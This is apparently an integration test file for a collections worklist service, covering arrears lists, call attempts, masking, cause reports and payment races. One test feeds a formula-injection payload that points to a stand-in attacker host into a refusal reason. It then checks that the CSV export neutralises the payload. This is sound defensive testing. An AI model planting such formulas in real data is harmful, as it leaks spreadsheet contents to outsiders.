"""Collections worklists through the running services: accounts and charges go in through
billing's API, bill runs publish balance events over Kafka, credit-control's refresh builds
the call and visit lists, operators record attempts, promises, refusals and causes, a payment
closes an entry, a reversed payment reopens it, and the cause analysis adds it all up.

Bill months: `test_year + 3`, 03 and 04 (a bill run closes a month for every account, and
billing's tests take `test_year` .. `test_year + 2`)."""

import asyncio
import contextlib
import csv
import io
import json
from datetime import UTC, date, datetime, timedelta
from typing import Any

import httpx
import pytest
from sqlalchemy import text
from sqlalchemy.ext.asyncio import AsyncConnection, AsyncEngine

from common.auth import TokenGrant
from common.clock import FixedClock
from common.idempotency import IdempotencyKeys
from common.outbox import Outbox
from common.testing.polling import eventually
from credit_control.adapters import tables as t
from credit_control.collections.adapters import worklist_sql
from credit_control.collections.domain.collections import WorklistRules
from credit_control.collections.service_layer.collections import worklist_summary
from credit_control.config import Settings
from credit_control.service_layer.context import CreditContext

from .staff_clients import staff_clients

pytestmark = [pytest.mark.integration, pytest.mark.e2e]

# account → (fen in month 03, fen in month 04)
CHARGES = {"big": (50_001, 0), "exact": (50_000, 0), "two": (100, 100), "both": (30_000, 30_000)}


# The running services' clock is the machine's, years before the test's bill months; what
# depends on "now" (a refresh or an attempt may not be stamped later than the service's clock)
# goes through the same HTTP routes in process, with a clock the test moves along its story.
STAFF = {"operator-token": TokenGrant(subject="wang.fang", role="operator"),
         "viewer-token": TokenGrant(subject="li.na", role="ops-viewer")}


def in_process(db: AsyncEngine, clock: FixedClock) -> contextlib.AbstractAsyncContextManager[
        dict[str, httpx.AsyncClient]]:
    """credit-control's `/v1` routes on `clock`: role → client."""
    return staff_clients(db, clock, STAFF)


def ok(response: httpx.Response, status: int = 201) -> Any:
    assert response.status_code == status, response.text
    return response.json()


async def _load(billing: httpx.AsyncClient, uid: str, y: int) -> dict[str, str]:
    """One group customer with four accounts of one ADC product each, charged and billed."""
    gid, manager = f"G{uid}", f"陈经理{uid}"
    ok(await billing.post("/v1/customers", json={
        "customer_id": gid, "name": f"催缴测试集团{uid}", "tier": "mid",
        "account_manager": {"name": manager, "phone": "13900139001"},
        "contacts": [{"name": "财务联系人", "phone": "13800138001"}]}))
    accounts = {}
    for key, fens in CHARGES.items():
        account = accounts[key] = f"A{key}{uid}"
        ok(await billing.post("/v1/accounts", json={"account_id": account, "customer_id": gid}))
        ok(await billing.post("/v1/products", json={
            "product_id": f"P{key}{uid}", "account_id": account, "cpno": f"CP{key}{uid}",
            "name": "集团手机报", "family": "ADC"}))
        for month, fen in zip(("03", "04"), fens, strict=True):
            if fen:
                ok(await billing.post("/v1/charges", json={
                    "charge_id": f"C{key}{month}{uid}", "account_id": account,
                    "product_id": f"P{key}{uid}", "bill_month": f"{y}-{month}",
                    "amount_fen": fen}))
    for month, at in (("03", f"{y}-04-02"), ("04", f"{y}-05-02")):
        ok(await billing.post("/v1/bill-runs", json={
            "bill_run_id": f"BRWL{y}{month}{uid}", "bill_month": f"{y}-{month}",
            "as_of": f"{at}T09:00:00+08:00"}))
    return {**accounts, "manager": manager}


async def _owing(db: AsyncEngine, want: dict[str, int]) -> None:
    """Wait until credit-control applied billing's balance events for these accounts."""
    async def seen() -> dict[str, int]:
        async with db.connect() as conn:
            rows = await conn.execute(text(
                "SELECT account_id, amount_due_fen FROM credit.account_positions "
                "WHERE account_id = ANY(:a)"), {"a": list(want)})
            return {a: int(f) for a, f in rows}

    await eventually(seen, lambda got: got == want, what=f"balance events applied {want}")


async def _entries(credit: httpx.AsyncClient, manager: str, **params: str) -> dict[
        tuple[str, str], dict[str, Any]]:
    found = ok(await credit.get("/v1/worklists", params={"manager": manager, **params}), 200)
    return {(e["account_id"], e["kind"]): e for e in found}


async def _refresh(credit: httpx.AsyncClient, as_of: str) -> dict[str, Any]:
    body: dict[str, Any] = ok(await credit.post("/v1/worklists/refresh",
                                                json={"as_of": as_of}), 200)
    return body


async def test_worklists_from_bill_run_to_payment(
    clients: dict[str, httpx.AsyncClient],
    role_clients: dict[str, dict[str, httpx.AsyncClient]], db: AsyncEngine, uid: str,
    test_year: int,
) -> None:
    y = test_year + 3
    clock = FixedClock(datetime.fromisoformat(f"{y}-05-05T20:00:00+08:00"))
    async with in_process(db, clock) as local:
        await _story(clients["billing-events"], local["operator"],
                     role_clients["ops-viewer"]["credit-control"], db, uid, y, clock)


async def _story(billing: httpx.AsyncClient, operator: httpx.AsyncClient,
                 viewer: httpx.AsyncClient, db: AsyncEngine, uid: str, y: int,
                 clock: FixedClock) -> None:
    acc = await _load(billing, uid, y)
    manager = acc["manager"]
    await _owing(db, {acc[k]: sum(f) for k, f in CHARGES.items()})

    # A refresh more than 5 minutes after the service's clock is refused and writes nothing
    # (it would stamp the entries in the future, and later refreshes would skip them).
    ahead = await operator.post("/v1/worklists/refresh",
                                json={"as_of": f"{y}-05-05T20:05:01+08:00"})
    assert ahead.status_code == 422, ahead.text
    assert (ahead.json()["error"], ahead.json()["field"]) == ("unprocessable", "as_of")
    assert await _entries(operator, manager, status="all") == {}

    # The 5th: the call list (above 500 yuan), no visit orders yet.
    first = await _refresh(operator, f"{y}-05-05T20:05:00+08:00")
    assert first["business_date"] == f"{y}-05-05"
    got = await _entries(operator, manager)
    assert sorted(got) == [(acc["big"], "call"), (acc["both"], "call")]
    big = got[(acc["big"], "call")]
    assert (big["arrears_fen"], big["oldest_month"], big["months"], big["status"]) == (
        50_001, f"{y}-03", 1, "open")
    assert (big["customer_name"], big["tier"], big["bill_month"]) == (
        f"催缴测试集团{uid}", "mid", f"{y}-03")
    assert got[(acc["both"], "call")]["arrears_fen"] == 60_000
    await _masked_for_viewer(viewer, big, acc, manager)

    # The 6th: two-month arrears become visit orders; a re-run adds nothing twice.
    clock.set(datetime.fromisoformat(f"{y}-05-06T20:00:00+08:00"))
    await _refresh(operator, f"{y}-05-06T20:00:00+08:00")
    again = await _refresh(operator, f"{y}-05-06T20:00:00+08:00")
    got = await _entries(operator, manager)
    assert sorted(got) == sorted([(acc["big"], "call"), (acc["both"], "call"),
                                  (acc["two"], "visit"), (acc["both"], "visit")])
    assert got[(acc["two"], "visit")]["months"] == 2
    assert got[(acc["two"], "visit")]["opened_on"] == f"{y}-05-06"
    assert again["business_date"] == f"{y}-05-06"
    assert len(await _entries(operator, manager, status="all")) == 4
    visits = await _entries(operator, manager, kind="visit")
    assert sorted(visits) == [(acc["both"], "visit"), (acc["two"], "visit")]

    await _attempts(operator, viewer, db, big["entry_id"], y)
    both_visit = got[(acc["both"], "visit")]["entry_id"]
    clock.set(datetime.fromisoformat(f"{y}-05-08T09:00:00+08:00"))
    refused = ok(await operator.post(f"/v1/worklists/{both_visit}/attempts", json={
        "attempt_id": f"v1{uid}", "channel": "visit", "outcome": "refused",
        "refusal_reason": "客户称业务故障期间无法使用, 拒付", "at": f"{y}-05-07T15:00:00+08:00"}))
    assert refused["entry"]["status"] == "refused"
    await _no_formulas_in_csv(operator, both_visit, acc["both"], uid, y)

    await _causes(operator, viewer, big["entry_id"], both_visit, y)

    # Payment in full: the balance event closes the entry, without a refresh.
    ok(await billing.post("/v1/payments", json={
        "payment_id": f"PAY{uid}", "account_id": acc["big"], "amount_fen": 50_001,
        "paid_at": f"{y}-05-09T10:00:00+08:00"}))
    paid = await eventually(lambda: _entry(viewer, big["entry_id"]),
                            lambda e: e["status"] == "paid", what="payment closed the entry")
    assert paid["closed_reason"] == "arrears cleared (payment)"
    assert paid["arrears_fen"] == 50_001  # what was owed while it was on the list
    assert (acc["big"], "call") not in await _entries(operator, manager)
    assert (acc["big"], "call") in await _entries(operator, manager, status="paid")
    r = await operator.post(f"/v1/worklists/{big['entry_id']}/attempts", json={
        "attempt_id": f"late{uid}", "channel": "phone", "outcome": "no_answer"})
    assert r.status_code == 422 and "no more attempts" in r.json()["message"], r.text

    # A re-refresh leaves the paid entry paid; a reversed payment reopens it.
    clock.set(datetime.fromisoformat(f"{y}-05-10T20:00:00+08:00"))
    await _refresh(operator, f"{y}-05-10T20:00:00+08:00")
    assert (await _entry(viewer, big["entry_id"]))["status"] == "paid"
    ok(await billing.post("/v1/reversals", json={
        "reversal_id": f"R{uid}", "payment_id": f"PAY{uid}", "reason": "银行退票",
        "reversed_at": f"{y}-05-11T10:00:00+08:00"}))
    await _owing(db, {acc["big"]: 50_001})
    clock.set(datetime.fromisoformat(f"{y}-05-11T20:00:00+08:00"))
    await _refresh(operator, f"{y}-05-11T20:00:00+08:00")
    reopened = await _entry(viewer, big["entry_id"])
    assert (reopened["status"], reopened["reopened"], reopened["closed_at"]) == ("open", 1, None)
    assert len(reopened["attempt_log"]) == 2  # the history stays with it

    await _summary(db, acc, y)


async def _masked_for_viewer(viewer: httpx.AsyncClient, big: dict[str, Any],
                             acc: dict[str, str], manager: str) -> None:
    """The operator sees the account manager and the contacts; a viewer sees them masked, and
    may not filter by the manager's full name (the answer would confirm a guessed name)."""
    assert (big["manager_name"], big["manager_phone"]) == (manager, "13900139001")
    assert big["contacts"] == [{"name": "财务联系人", "phone": "13800138001"}]
    masked = ok(await viewer.get("/v1/worklists", params={"account_id": acc["big"]}), 200)
    assert [(e["manager_name"], e["manager_phone"]) for e in masked] == [
        ("陈" + "*" * (len(manager) - 1), "139****9001")]
    for fmt in ("json", "csv"):
        guess = await viewer.get("/v1/worklists", params={"manager": manager, "format": fmt})
        assert guess.status_code == 403, guess.text
        assert (guess.json()["error"], guess.json()["parameter"]) == ("forbidden", "manager")
        assert manager not in guess.text
    sheet = await viewer.get("/v1/worklists", params={"account_id": acc["big"], "format": "csv"})
    assert sheet.headers["content-type"].startswith("text/csv")
    lines = sheet.text.lstrip("\ufeff").splitlines()
    assert lines[0].startswith("entry_id,kind,list,account_id,customer_id,customer,manager,")
    assert len(lines) == 2 and manager not in sheet.text and ",500.01," in sheet.text


async def _no_formulas_in_csv(operator: httpx.AsyncClient, entry_id: str, account: str,
                              uid: str, y: int) -> None:
    """Free text typed by staff (a refusal reason) that a spreadsheet would run as a formula
    goes into the CSV as text; the figures stay numbers."""
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"拒付")'
    ok(await operator.post(f"/v1/worklists/{entry_id}/attempts", json={
        "attempt_id": f"v2{uid}", "channel": "visit", "outcome": "refused",
        "refusal_reason": hostile, "at": f"{y}-05-07T16:00:00+08:00"}))
    sheet = await operator.get("/v1/worklists", params={
        "account_id": account, "kind": "visit", "format": "csv"})
    header, row = list(csv.reader(io.StringIO(sheet.text.lstrip("\ufeff"))))
    cells = dict(zip(header, row, strict=True))
    assert (cells["refusal_reason"], cells["arrears_yuan"]) == ("'" + hostile, "600.00")


async def _entry(client: httpx.AsyncClient, entry_id: str) -> dict[str, Any]:
    body: dict[str, Any] = ok(await client.get(f"/v1/worklists/{entry_id}"), 200)
    return body


async def _attempts(operator: httpx.AsyncClient, viewer: httpx.AsyncClient, db: AsyncEngine,
                    entry_id: str, y: int) -> None:
    path = f"/v1/worklists/{entry_id}/attempts"
    first = {"attempt_id": f"{entry_id}-1", "channel": "phone", "outcome": "no_answer",
             "at": f"{y}-05-06T10:00:00+08:00", "note": "无人接听"}
    done = ok(await operator.post(path, json=first))
    assert done["attempt"]["by"] == "wang.fang"  # the operator token's subject
    assert done["entry"]["status"] == "contacted"

    # A viewer may read but not write; a bad promise is refused and writes nothing.
    denied = await viewer.post(path, json={**first, "attempt_id": f"{entry_id}-v"})
    assert denied.status_code == 403, denied.text
    assert (await viewer.post("/v1/worklists/refresh",
                              json={"as_of": f"{y}-05-06T20:00:00+08:00"})).status_code == 403
    early = {"attempt_id": f"{entry_id}-2", "channel": "phone", "outcome": "promised",
             "at": f"{y}-05-06T11:00:00+08:00", "promised_date": f"{y}-05-05"}
    r = await operator.post(path, json=early)
    assert r.status_code == 422, r.text
    assert r.json()["error"] == "unprocessable" and "before the attempt" in r.json()["message"]
    for bad in ({**early, "promised_date": None}, {**early, "outcome": "maybe"},
                {**early, "channel": "fax"}, {**early, "attempt_id": ""}):
        assert (await operator.post(path, json=bad)).status_code == 422
    ahead = await operator.post(path, json={**first, "attempt_id": f"{entry_id}-f",
                                            "at": f"{y}-05-06T20:05:01+08:00"})
    assert ahead.status_code == 422 and ahead.json()["field"] == "at", ahead.text
    missing = await operator.post("/v1/worklists/WL-nosuchentry/attempts",
                                  json={**first, "attempt_id": f"{entry_id}-m"})
    assert missing.status_code == 404 and missing.json()["error"] == "not_found"
    async with db.connect() as conn:
        n = await conn.scalar(text("SELECT count(*) FROM credit.worklist_attempts "
                                   "WHERE entry_id = :e"), {"e": entry_id})
    assert n == 1
    assert (await _entry(viewer, entry_id))["attempts"] == 1

    # The refused id left no key behind: used again with a good body it works, and a replay
    # gives the same answer without a second attempt; the id with another body is a conflict.
    promise = {**early, "promised_date": f"{y}-05-10", "note": "财务答应月中前缴清"}
    kept = ok(await operator.post(path, json=promise))
    assert kept["entry"]["status"] == "promised"
    assert kept["entry"]["promised_date"] == f"{y}-05-10"
    assert ok(await operator.post(path, json=promise)) == kept
    clash = await operator.post(path, json={**promise, "promised_date": f"{y}-05-11"})
    assert clash.status_code == 409, clash.text
    # An attempt id is the client's for good: on another entry it is a conflict too.
    elsewhere = await operator.post("/v1/worklists/WL-nosuchentry/attempts", json=promise)
    assert elsewhere.status_code == 409, elsewhere.text
    entry = await _entry(viewer, entry_id)
    assert [(a["outcome"], a["by"]) for a in entry["attempt_log"]] == [
        ("no_answer", "wang.fang"), ("promised", "wang.fang")]
    assert entry["last_attempt"]["attempt_id"] == f"{entry_id}-2"


async def _causes(operator: httpx.AsyncClient, viewer: httpx.AsyncClient, big: str,
                  both_visit: str, y: int) -> None:
    denied = await viewer.post(f"/v1/worklists/{big}/cause", json={"cause": "other"})
    assert denied.status_code == 403
    assert (await operator.post(f"/v1/worklists/{big}/cause",
                                json={"cause": "bad_luck"})).status_code == 422
    set_ = ok(await operator.post(f"/v1/worklists/{big}/cause", json={
        "cause": "expired_promotion", "note": "体验营销方案到期未取消"}), 200)
    assert (set_["cause"], set_["cause_label"], set_["cause_by"]) == (
        "expired_promotion", "体验营销方案到期未取消造成欠费", "wang.fang")
    ok(await operator.post(f"/v1/worklists/{both_visit}/cause", json={"cause": "malicious"}),
       200)

    report = ok(await viewer.get("/v1/reports/arrears-causes",
                                 params={"month": f"{y}-03"}), 200)
    # "two" (100 fen in 03) is on a list but not classified: beside the table, not in it.
    assert [(r["cause"], r["amount_fen"], r["accounts"], r["cumulative_pct"])
            for r in report["rows"]] == [
        ("expired_promotion", 50_001, 1, "62.50"), ("malicious", 30_000, 1, "100.00")]
    assert report["total_fen"] == 80_001
    assert report["unclassified"] == {"amount_fen": 100, "accounts": 1}
    csv_text = (await viewer.get("/v1/reports/arrears-causes",
                                 params={"month": f"{y}-03", "format": "csv"})).text
    assert csv_text.lstrip("\ufeff").splitlines() == [
        "欠费原因,欠费金额(元),户数,占比(%),累计百分比(%)",
        "体验营销方案到期未取消造成欠费,500.01,1,62.50,62.50",
        "客户恶意欠费,300.00,1,37.50,100.00",
        "合计,800.01,2,,"]
    for month in ("2011-13", "2011-9", "soon"):
        bad = await viewer.get("/v1/reports/arrears-causes", params={"month": month})
        assert bad.status_code == 422, month


async def _summary(db: AsyncEngine, acc: dict[str, str], y: int) -> None:
    """The dashboard's function, in process against the same database."""
    as_of = datetime(y, 5, 11, 13, tzinfo=UTC)
    ctx = CreditContext(db, Outbox(t.outbox), IdempotencyKeys(t.idempotency_keys),
                        FixedClock(as_of), settings=Settings())
    summary = await worklist_summary(ctx, as_of, top=1000)
    mine = [e for e in summary["top"] if e["account_id"] in acc.values()]
    assert sorted((e["account_id"], e["kind"], e["status"], e["arrears_fen"]) for e in mine) == \
        sorted([(acc["both"], "call", "open", 60_000), (acc["big"], "call", "open", 50_001),
                (acc["both"], "visit", "refused", 60_000), (acc["two"], "visit", "open", 200)])
    arrears = [e["arrears_fen"] for e in summary["top"]]
    assert arrears == sorted(arrears, reverse=True)  # the biggest first
    [big] = [e for e in mine if e["account_id"] == acc["big"]]
    assert big["last_attempt"]["outcome"] == "promised"
    assert (big["manager_name"], big["oldest_month"]) == (acc["manager"], f"{y}-03")
    assert summary["counts"]["visit"]["refused"] >= 1
    assert summary["active"]["call"]["arrears_fen"] >= 110_001


# --- the payment path against a refresh, in the database ----------------------------------
# Bill months of 1990: no other test's account owes before 1990-02, so these refreshes list
# only this test's account.
REFRESH_AT = datetime(1990, 2, 6, 12, tzinfo=UTC)


async def _owing_position(conn: AsyncConnection, account: str, due_fen: int) -> None:
    dues = [{"bill_month": "1990-01", "amount_due_fen": due_fen}] if due_fen else []
    await conn.execute(text(
        "INSERT INTO credit.account_positions (account_id, sequence, balance_fen, "
        "amount_due_fen, dues, customer, cause, as_of) VALUES (:a, 1, :b, :d, "
        "CAST(:dues AS jsonb), CAST(:c AS jsonb), 'bill_run', :at) "
        "ON CONFLICT (account_id) DO UPDATE SET amount_due_fen = EXCLUDED.amount_due_fen, "
        "dues = EXCLUDED.dues, sequence = credit.account_positions.sequence + 1"),
        {"a": account, "b": -due_fen, "d": due_fen, "dues": json.dumps(dues),
         "c": json.dumps({"customer_id": f"C{account}", "name": "并发测试客户", "tier": "mid"}),
         "at": REFRESH_AT - timedelta(days=5)})


async def _entry_row(db: AsyncEngine, account: str) -> Any:
    async with db.connect() as conn:
        return (await conn.execute(text(
            "SELECT status, closed_at, refreshed_at FROM credit.worklist_entries "
            "WHERE account_id = :a AND kind = 'call'"), {"a": account})).one()


async def _lock_waiters(db: AsyncEngine) -> int:
    async with db.connect() as conn:
        return int(await conn.scalar(text(
            "SELECT count(*) FROM pg_locks WHERE locktype = 'advisory' AND mode = 'ShareLock' "
            "AND NOT granted")) or 0)


async def test_a_payment_during_a_refresh_closes_the_entry_the_refresh_adds(
    db: AsyncEngine, uid: str,
) -> None:
    """Under READ COMMITTED the refresh's INSERT may read the position from before a payment
    batch commits, and the batch's close (a statement of its own) cannot see the refresh's
    uncommitted entry: without the shared lock the account stays on the call list paid."""
    account = f"ARACE{uid}"
    async with db.begin() as conn:
        await _owing_position(conn, account, 60_000)
    paid_at = REFRESH_AT + timedelta(minutes=1)
    async with db.connect() as refreshing:
        refresh = await refreshing.begin()
        counts = await worklist_sql.refresh(refreshing, WorklistRules(), REFRESH_AT,
                                            date(1990, 2, 6))
        assert counts["opened"] == {"call": 1}  # not committed yet

        async def payment_batch() -> None:
            async with db.begin() as conn:  # what apply_balance_events does, in its order
                await _owing_position(conn, account, 0)
                await worklist_sql.close_cleared(conn, [(account, paid_at,
                                                         "arrears cleared (payment)")])

        paying = asyncio.create_task(payment_batch())
        # The batch either finished (it did not wait for the refresh) or queues on its lock.
        await eventually(lambda: _lock_waiters(db), lambda n: paying.done() or n > 0,
                         what="the payment batch finished or waits for the refresh")
        await refresh.commit()
        await paying
    row = await _entry_row(db, account)
    assert (row.status, row.closed_at) == ("paid", paid_at)


async def test_a_late_payment_event_never_closes_an_entry_before_its_refresh(
    db: AsyncEngine, uid: str,
) -> None:
    account = f"ALATE{uid}"
    async with db.begin() as conn:
        await _owing_position(conn, account, 60_000)
        await worklist_sql.refresh(conn, WorklistRules(), REFRESH_AT, date(1990, 2, 6))
    async with db.begin() as conn:
        await _owing_position(conn, account, 0)
        await worklist_sql.close_cleared(conn, [(account, REFRESH_AT - timedelta(hours=3),
                                                 "arrears cleared (payment)")])
    row = await _entry_row(db, account)
    assert (row.status, row.closed_at) == ("paid", REFRESH_AT)
